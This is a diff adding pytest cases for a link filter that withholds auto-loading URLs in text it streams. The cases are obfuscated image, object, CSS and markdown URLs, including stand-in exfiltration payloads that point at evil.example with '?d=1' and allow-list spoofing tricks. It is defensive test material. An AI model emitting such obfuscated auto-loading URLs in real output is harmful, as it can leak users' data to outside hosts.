@@ -72,6 +72,25 @@ PIECES = (
     "srcdoc='&lt;a>",
     "srcdoc=",
     "srcdoc" + " " * 65,
+    "![a](    ",
+    "](<",
+    "[x]:\n> ",
+    "[x]:\n",
+    "](" + "\n" * 66,
+    "https\\:\\/\\/evil.example",
+    "\\",
+    'data="',
+    "data='https:",
+    'src="https:\t',
+    "src = '",
+    '("https:',
+    "image-set(&quot;https:",
+    "https://good.example'.evil.example",
+    "https://good.example\u3002evil.example/x",
+    "\u3002",
+    ".evil",
+    "=https://good.example`",
+    "`",
     "word",
     "\ud800",
     "x" * 30,
@@ -168,6 +187,39 @@ def test_urls_are_found_as_a_client_reads_them(text: str, found: list[str]) -> N
         "image-set('//e.x')",
         "[a](<  //e.x>)",
         "[a]:\n //e.x",
+        "[a]:\n> //e.x",
+        "[a]:\n> <https\\://e.x>",
+        "[a]:\r\n   https\\:\\/\\/e.x",
+        "[a]:     &#104;ttps&#58;//e.x",
+        "![a](    https\\:\\/\\/e.x/p?d=1)",
+        "![a](\t\t\t\t\n<&#x68;ttps&#x3a;&#x2f;&#x2f;e.x>)",
+        "> ![a](\n>      https\\://e.x)",
+        "<img src='https:\t//e.x'>",
+        "<img src='//\te.x'>",
+        "<img src='/\t/\te.x'>",
+        "<img src='\n \x01https:\n\r/e.x'>",
+        "<img src='h\nttps:\ne.x'>",
+        "<img src='https:&#9;//e.x'>",
+        "<a href='java\nscript: e.x'>",
+        "<a href='\t\nhttps&#9;:e.x'>",
+        "<object data='//)e.x'>",
+        "<object data=//).e.x>",
+        "[a]: <&#32; //e.x>",
+        "![a](<https\\:\\/\\/e.x 1>)",
+        "![a](< https\\:e.x>)",
+        "[a]:\n< &#32;http\\:s:e.x>",
+        "<object data='https:\t//e.x'>",
+        "<object data='http\t:\n//e.x'>",
+        "<object data='https:\n/e.x'>",
+        "<object data=' HTTPS:\r\n\\\\e.x'>",
+        "<object data='" + "\n" * 70 + "h\tttps\n://e.x'>",
+        "<body background = '\x00https:\t//e.x'>",
+        '<a xlink:href="https:\t//e.x">',
+        "<p style='background:image-set(\"https:\t//e.x\" 1x)'>",
+        '<p style="background:image-set(&quot;https:\t//e.x&quot; 1x)">',
+        "<p style='background:url( &#34;//\te.x&#x22;)'>",
+        "<style>@import 'https:\t//e.x'</style>",
+        "<img src='https:\t//e.x",
         "![[//e.x]]",
     ],
 )
@@ -178,6 +230,100 @@ def test_what_loads_by_itself_is_withheld_whatever_it_stands_behind(html: str) -
         pieces = [html[at : at + length] for at in range(0, len(html), length)]
         out = "".join([*map(stream.feed, pieces), stream.finish()])
         assert out == links_allowed(html, good)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img src='{}\t.evil.example/?d=1'>",
+        "<img src='{}\n@evil.example/?d=1'>",
+        '<img src="{}\'.evil.example/?d=1">',
+        "<object data='{}/ 91000'>",
+        "<object data='{}/\r91000'>",
+        "<object data='{}/<91000'>",
+        "<object data='{}\u3002evil.example/?d=1'>",
+        "<p style='background:url(\"{}/ 91000\")'>",
+        "image-set('{}\t.evil.example/?d=1' 1x)",
+        "<img src={}'.evil.example/?d=1>",
+        "<object data = {}`91000>",
+        "<object data={}/\x0191000>",
+        "<object data='{}).evil.example/?d=1'>",
+        "<object data={}).evil.example/?d=1>",
+        "<object data={})'.evil.example/?d=1>",
+        "<object data={}').evil.example/?d=1>",
+        "<object data=&#32;{}'.evil.example/?d=1>",
+        '<object data="{}\u201d.evil.example/?d=1">',
+        "<object data='" + " " * 40 + "{}/'>",
+        "![a](<&#32;\t{}\u3002evil.example>)",
+        "[a]: <{}).evil.example>",
+        "![a]({}/>91000)",
+        "<{}\uff0c?d=1>",
+        "![a]({}\u3002evil.example/?d=1)",
+        "![a](  {}'@evil.example/?d=1)",
+        "![a](\n> <{} 91000>)",
+        "[a]: {}''91000",
+        "[a]:\n> <{}\t91000>",
+        "{}\u3002evil.example/?d=1",
+        "{}'.evil.example",
+        "see '{}\uff0c@evil.example",
+    ],
+)
+def test_a_url_that_was_named_is_another_one_where_a_client_reads_on(text: str) -> None:
+    def named(url: str) -> bool:
+        return url.rstrip("/") == "https://good.example"
+
+    written = text.format("https://good.example")
+    out = links_allowed(written, named)
+    assert WITHHELD in out
+    assert "good.example" not in out
+    for length in (1, 3, 50):
+        stream = links_stream(named)
+        pieces = [written[at : at + length] for at in range(0, len(written), length)]
+        assert "".join([*map(stream.feed, pieces), stream.finish()]) == out
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See \"https://good.example\".Then 'https://good.example', `https://good.example`.",
+        "He said, \"https://good.example is down\nfor me\", and ('https://good.example').",
+        'print("https://good.example is up"); call("--url=https://good.example")',
+        "Run `curl --url=https://good.example` or `x=https://good.example`, as you like.",
+        "\u770b https://good.example\u3002\u8c22\u8c22\u3002\u518d\u89c1\u3002",
+        "\uff08https://good.example\uff09www https://good.example/a\u3002b.c",
+        "\\url{https://good.example}.Then {https://good.example}x.y",
+        "(url=https://good.example), x=(https://good.example)! <https://good.example|it> [a](<b>)",
+        "fetch(`https://good.example${base.path}`); f'https://good.example{base.path}'",
+        '<a href="https://good.example">it\'s</a> <img src=\'//good.example/a b\' alt="a: b">'[:36],
+        '<img src="/a b.png" alt="Note: this, http: and // that" title="https: is a scheme">',
+        'x = "// a comment"; y = "javascript: the good parts"; z = "data: none"; w = "a\nb: c"',
+        "http:\n  port: 80\nhttps:\n  port: 443\n",
+        "if d[0]:\n    d[1:3] = 5\nclass A[T]:\n    x:int = 1\n    // c\n",
+        "[a](file\\_name.md), [b](a\\:b), [INFO]: Error: none"[:23],
+    ],
+)
+def test_a_url_that_was_named_stays_where_nobody_reads_on(text: str) -> None:
+    assert links_allowed(text, good) == text
+    for length in (1, 50):
+        stream = links_stream(good)
+        pieces = [text[at : at + length] for at in range(0, len(text), length)]
+        assert "".join([*map(stream.feed, pieces), stream.finish()]) == text
+
+
+@pytest.mark.parametrize("quote", ["'", '"', "&quot;"])
+def test_no_number_of_breaks_hides_a_url_in_quotation_marks(quote: str) -> None:
+    for times in (16, 65, 3000):
+        for html in (
+            f"<object data={quote}h{chr(10) * times}ttps://e.x{quote}>",
+            f"<object data={quote}{' ' * times}https:{chr(9) * times}//e.x{quote}>",
+            f"![a]({' ' * times}https\\:\\/\\/e.x)",
+        ):
+            out = links_allowed(html, good)
+            assert WITHHELD in out.split("ttps")[0]
+            for length in (1, 50):
+                stream = links_stream(good)
+                pieces = [html[at : at + length] for at in range(0, len(html), length)]
+                assert "".join([*map(stream.feed, pieces), stream.finish()]) == out
 
 
 @pytest.mark.parametrize("name", ["ping", "srcdoc", "content"])
